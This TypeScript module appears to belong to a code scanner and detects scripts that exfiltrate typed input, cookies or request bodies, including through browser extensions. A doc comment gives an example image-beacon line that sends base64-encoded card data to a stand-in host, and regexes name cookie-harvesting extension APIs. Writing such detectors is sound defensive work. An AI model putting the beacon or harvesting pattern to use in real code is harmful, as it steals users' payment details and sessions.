import { TYPED } from './codeLabels.ts';
import { pictureAbroad, requestAbroad } from './foreignSends.ts';
import type { Call, Program } from './program.ts';
import type { Range } from './tokenRanges.ts';

/** What somebody typed goes to another machine, and nobody looks at the answer. */
export function typedSent(program: Program): number | undefined {
  return requestAbroad(program, (call) => isStatement(program, call) && call.args.some(isTyped(program)))?.start;
}

/** `new Image().src = 'https://x/?d=' + btoa(card)`: a picture that nobody looks at carries it. */
export function typedInPicture(program: Program): number | undefined {
  return pictureAbroad(program, isTyped(program));
}

/** An extension that takes all cookies, or what is sent to every page, and sends on. */
export function takenFromBrowser(program: Program): number | undefined {
  const taken = program.calls.find(({ callee, args }) => {
    const [first] = args;
    if (!first) return false;
    if (/^(?:chrome|browser)\.cookies\.getAll$/.test(callee)) return first.to - first.from === 2;
    if (!/^(?:chrome|browser)\.webRequest\.\w+\.addListener$/.test(callee)) return false;
    const texts = args.flatMap((arg) => program.stringsIn(arg));
    return texts.includes('<all_urls>') && texts.includes('requestBody');
  });
  return taken && requestAbroad(program, () => true) ? taken.start : undefined;
}

function isStatement({ tokens }: Program, { start }: Call): boolean {
  const before = tokens[start - 1];
  return before === undefined || before.kind === 'line' || /^[;{}]$/.test(before.text) || before.text === 'void';
}

/** What somebody typed, or the cookies, which stand for it. */
function isTyped(program: Program) {
  return (range: Range): boolean => (program.labelsOf(range) & TYPED) !== 0 || namesCookies(program, range);
}

function namesCookies(program: Program, { from, to }: Range): boolean {
  for (let i = from; i < Math.min(to, from + 60); i++) if (program.nameAt(i) === 'document.cookie') return true;
  return false;
}
